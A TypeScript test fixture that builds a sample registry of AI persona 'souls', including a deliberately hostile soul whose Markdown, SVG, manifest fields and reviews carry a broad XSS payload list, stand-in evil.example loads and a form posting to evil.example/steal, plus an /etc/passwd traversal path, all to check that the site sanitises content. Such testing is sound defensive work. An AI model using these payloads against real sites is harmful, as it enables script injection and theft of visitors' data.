// The registry the site tests run on: a git repository made at test time (souls with several
// versions, an avatar, reviews with replies, a soul full of XSS payloads, enough filler souls for
// two list pages), its static tree (`buildRegistry`) and the site (`buildSite`). Built once per
// content of the sources and kept under .cache/site-test/<hash>, so every site test file of a run
// (and the next run, when nothing changed) shares one build; a lock directory serialises builders.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { buildRegistry } from '../../scripts/build/build.ts';
import { buildSite } from '../../scripts/site/build-site.ts';
import { gitRepo } from '../helpers/git-repo.ts';
import type { GitCommitSpec } from '../helpers/git-repo.ts';
import { BENIGN_SOUL, validManifest } from '../helpers/soul.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const CACHE = join(ROOT, '.cache', 'site-test');

export interface SiteFixture {
  /** The registry repository (a git working folder with an empty working tree). */
  repo: string;
  /** Its static tree. */
  dist: string;
  /** The built site. */
  site: string;
}

/** A 2x2 PNG (the package avatar of ada/tutor). */
export const AVATAR_PNG = Uint8Array.from(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP4z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==', 'base64'),
);

/** Set by any payload that manages to run; the XSS test checks it stays unset. */
export const CANARY = '__soulXss';

const run = `window.${CANARY}=1;alert(1)`;

/** SOUL.md of evil/xss: script tags, event handlers, javascript: and data: URLs, SVG scripts, broken markup, Markdown tricks. */
export const XSS_MARKDOWN = `# Totally <script>${run}</script> harmless

<script>${run}</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<img src=x onerror="${run}">
<img src="https://evil.example/pixel.png">
<svg onload="${run}"><script>${run}</script></svg>
<iframe src="javascript:${run}"></iframe>
<object data="data:text/html,<script>${run}</script>"></object>
<embed src="https://evil.example/e.swf">
<form action="https://evil.example/steal"><input name=q autofocus onfocus="${run}"><button>Go</button></form>
<a href="javascript:${run}">raw javascript link</a>
<a href="https://evil.example/" onclick="${run}">raw link with handler</a>
<div style="background:url(https://evil.example/bg.png)" onmouseover="${run}">styled div</div>
<style>body{background:url(https://evil.example/style.png)}</style>
<link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<math><mtext><table><mglyph><style><img src=x onerror="${run}">
<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<<script>script>${run}<</script>/script>
<img src="x" alt="unclosed <b
<details open ontoggle="${run}">
<!-- <img src=x onerror="${run}"> -->

[markdown javascript](javascript:${run})
[entity javascript](jav&#x61;script:${run})
[tab javascript](java\tscript:${run})
[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vbscript](vbscript:msgbox(1))
[protocol relative](//evil.example/x)
[backslash](\\\\evil.example\\x)
[reference link][evil]
<javascript:${run}>

[evil]: javascript:${run}

![remote image](https://evil.example/remote.png)
![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)
![svg in package](evil.svg)
![own avatar](avatar.png)
![traversal](../../../etc/passwd)
[![image link](https://evil.example/i.png)](javascript:${run})

| table | <img src=x onerror="${run}"> |
|---|---|
| <script>${run}</script> | ok |

\`<script>${run}</script>\` in code stays text.

\`\`\`html
<script>${run}</script>
\`\`\`
`;

/** An SVG file of evil/xss with a script (shown as text, never as an image). */
export const XSS_SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><a href="javascript:${run}"><text>click</text></a></svg>\n`;

function soulFiles(owner: string, name: string, version: string, options: { soul?: string; extra?: Record<string, string | Uint8Array>; manifest?: Record<string, unknown> } = {}): Record<string, string | Uint8Array> {
  const dir = `souls/${owner}/${name}`;
  const manifest = validManifest({ name, version, displayName: name.replace(/-/g, ' ').replace(/\b\w/g, (c) => c.toUpperCase()), ...options.manifest });
  const files: Record<string, string | Uint8Array> = {
    [`${dir}/soul.json`]: `${JSON.stringify(manifest, null, 2)}\n`,
    [`${dir}/SOUL.md`]: options.soul ?? BENIGN_SOUL.replaceAll('Test Soul', String(manifest['displayName'])),
    [`${dir}/IDENTITY.md`]: `# Identity\n\n- **Name:** ${String(manifest['displayName'])}\n- **Role:** ${String(manifest['description'])}\n`,
  };
  for (const [p, c] of Object.entries(options.extra ?? {})) files[`${dir}/${p}`] = c;
  return files;
}

function publish(owner: string, name: string, version: string, time: number, options: Parameters<typeof soulFiles>[3] = {}): GitCommitSpec {
  return { files: soulFiles(owner, name, version, options), message: `Publish ${owner}/${name} v${version}\n\nPublished-by: ${owner}\n`, author: 'Registry Bot', time };
}

const T0 = Date.UTC(2024, 0, 10) / 1000;
const DAY = 86_400;

function review(id: string, fields: Record<string, unknown>): string {
  return JSON.stringify({ id, author: { username: 'reader' }, createdAt: '2024-03-01T10:00:00Z', ...fields });
}

const TUTOR_SOUL = (version: string, extra: string): string => `# Quill, the tutor\n\nYou are Quill (version ${version}), a patient tutor who teaches by asking questions.\n\n![Quill](avatar.png)\n\n## Method\n\n- Ask one question at a time.\n- Check understanding often; see [the identity](IDENTITY.md).\n${extra}\n## Boundaries\n\n- You never hand over homework answers.\n- Visit [the guide](https://example.org/guide) for parents.\n`;

/** The commits of the fixture registry. */
export function fixtureCommits(): GitCommitSpec[] {
  const commits: GitCommitSpec[] = [
    publish('ada', 'tutor', '1.0.0', T0, {
      soul: TUTOR_SOUL('1.0.0', ''),
      extra: { 'avatar.png': AVATAR_PNG },
      manifest: { displayName: 'Quill', description: 'A patient maths tutor who teaches by asking questions.', category: 'education/tutoring', tags: ['tutoring', 'maths'], files: { soul: 'SOUL.md', identity: 'IDENTITY.md', avatar: 'avatar.png' } },
    }),
    publish('ben', 'planner', '2.0.0', T0 + DAY, {
      manifest: { displayName: 'Weekly Planner', description: 'Plans your week with you, one clear step at a time.', category: 'productivity/planning', tags: ['planning', 'productivity'] },
    }),
    publish('ada', 'tutor', '1.1.0', T0 + 2 * DAY, {
      soul: TUTOR_SOUL('1.1.0', '- Use worked examples after three wrong answers.\n'),
      extra: { 'avatar.png': AVATAR_PNG, 'notes.txt': 'Plain text notes <b>not markup</b>.\n' },
      manifest: { displayName: 'Quill', description: 'A patient maths tutor who teaches by asking questions.', category: 'education/tutoring', tags: ['tutoring', 'maths'], license: 'Some-Other-License', files: { soul: 'SOUL.md', identity: 'IDENTITY.md', avatar: 'avatar.png' } },
    }),
    publish('evil', 'xss', '1.0.0', T0 + 3 * DAY, {
      soul: XSS_MARKDOWN,
      extra: { 'evil.svg': XSS_SVG, 'avatar.png': AVATAR_PNG, 'broken.md': `<div><p>unclosed <b>bold <i>italic\n\n<a href="javascript:${run}"\n\n[unterminated](javascript:${run}\n` },
      manifest: {
        displayName: `Evil <img src=x onerror="${run}">`,
        description: `<script>${run}</script> a soul full of XSS payloads`,
        category: 'security/testing',
        tags: ['xss', `<script>${run}</script>`],
        author: { name: `<b onmouseover="${run}">Mallory</b>`, github: 'evil' },
      },
    }),
    publish('ada', 'tutor', '1.2.0', T0 + 4 * DAY, {
      soul: TUTOR_SOUL('1.2.0', '- Use worked examples after three wrong answers.\n- Celebrate progress.\n'),
      extra: { 'avatar.png': AVATAR_PNG, 'notes.txt': 'Plain text notes <b>not markup</b>.\n' },
      manifest: { displayName: 'Quill', description: 'A patient maths tutor who teaches by asking questions.', category: 'education/tutoring', tags: ['tutoring', 'maths'], files: { soul: 'SOUL.md', identity: 'IDENTITY.md', avatar: 'avatar.png' } },
    }),
    publish('evil', 'xss', '1.0.1', T0 + 5 * DAY, {
      soul: `${XSS_MARKDOWN}\n<img src=y onerror="${run}"> second version\n`,
      extra: { 'evil.svg': XSS_SVG, 'avatar.png': AVATAR_PNG },
      manifest: { displayName: 'Evil second', description: `<script>${run}</script> a soul full of XSS payloads`, category: 'security/testing', tags: ['xss'] },
    }),
  ];
  // Filler souls: enough for a second page of the list (20 per page).
  const filler: Record<string, string | Uint8Array> = {};
  for (let i = 1; i <= 24; i++) {
    const name = `helper-${String(i).padStart(2, '0')}`;
    Object.assign(filler, soulFiles('filler', name, '1.0.0', { manifest: { displayName: `Helper ${i}`, description: `Filler helper number ${i} for the list pages.`, category: i % 2 === 0 ? 'productivity/planning' : 'data/analysis', tags: [i % 3 === 0 ? 'fizz' : 'plain'] } }));
  }
  commits.push({ files: filler, message: 'Publish filler souls\n\nPublished-by: filler\n', author: 'Registry Bot', time: T0 + 6 * DAY });
  commits.push({
    files: {
      'reviews/ada/tutor/r1.json': review('r1', { rating: 5, body: 'Patient and clear.\nMy kid loved it.', likes: 2 }),
      'reviews/ada/tutor/r2.json': review('r2', { rating: 4, body: 'Good, a bit slow.', author: { username: 'parent' }, createdAt: '2024-03-02T10:00:00Z' }),
      'reviews/ada/tutor/r3.json': review('r3', { parentId: 'r1', body: 'Thanks!', author: { username: 'ada' }, createdAt: '2024-03-03T10:00:00Z' }),
      'reviews/evil/xss/x1.json': review('x1', { rating: 1, body: `<img src=x onerror="${run}"> <script>${run}</script> [link](javascript:${run})`, author: { username: 'mallory' } }),
      'reviews/evil/xss/x2.json': review('x2', { parentId: 'x1', body: `<svg onload="${run}">`, author: { username: 'mallory2' }, createdAt: '2024-03-04T10:00:00Z' }),
    },
    message: 'Reviews\n',
    author: 'Registry Bot',
    time: T0 + 7 * DAY,
  });
  return commits;
}

/** Every file whose content decides the fixture's output, hashed. */
function sourceHash(): string {
  const hash = createHash('sha256');
  const walk = (dir: string): void => {
    for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))) {
      if (entry.name === 'node_modules' || entry.name === '.astro' || entry.name.startsWith('.')) continue;
      const p = join(dir, entry.name);
      if (entry.isDirectory()) walk(p);
      else if (/\.(ts|js|mjs|astro|css|json|eta)$/.test(entry.name)) hash.update(relative(ROOT, p)).update(readFileSync(p));
    }
  };
  for (const dir of ['scripts/core', 'scripts/build', 'scripts/site', 'site']) walk(join(ROOT, dir));
  hash.update(readFileSync(fileURLToPath(import.meta.url)));
  hash.update(readFileSync(join(ROOT, 'registry.config.json')));
  return hash.digest('hex').slice(0, 16);
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/**
 * The fixture registry, its static tree and its site, built when missing (once per content of
 * the sources; concurrent callers wait for one builder).
 */
export async function siteFixture(): Promise<SiteFixture> {
  const key = sourceHash();
  const dir = join(CACHE, key);
  const fixture: SiteFixture = { repo: join(dir, 'repo'), dist: join(dir, 'dist'), site: join(dir, 'site') };
  const done = join(dir, 'done');
  const lock = join(CACHE, `${key}.lock`);
  mkdirSync(CACHE, { recursive: true });
  while (!existsSync(done)) {
    try {
      mkdirSync(lock);
    } catch {
      // Another process builds; a lock older than ten minutes is left from a crash.
      if (Date.now() - statSync(lock).mtimeMs > 600_000) rmSync(lock, { recursive: true, force: true });
      await sleep(250);
      continue;
    }
    try {
      if (existsSync(done)) break;
      for (const old of readdirSync(CACHE)) if (old !== key && !old.endsWith('.lock')) rmSync(join(CACHE, old), { recursive: true, force: true });
      rmSync(dir, { recursive: true, force: true });
      await gitRepo({ dir: fixture.repo, commits: fixtureCommits() });
      const stats = join(dir, 'stats.json');
      writeFileSync(stats, JSON.stringify({ downloads: { 'ada/tutor': 120, 'ben/planner': 45, 'evil/xss': 3 } }));
      await buildRegistry({ repo: fixture.repo, out: fixture.dist, progress: 'none', concurrency: 0, statsFile: stats });
      await buildSite({ dist: fixture.dist, out: fixture.site, config: join(ROOT, 'registry.config.json'), logLevel: 'error' });
      writeFileSync(done, new Date().toISOString());
    } finally {
      rmSync(lock, { recursive: true, force: true });
    }
  }
  return fixture;
}
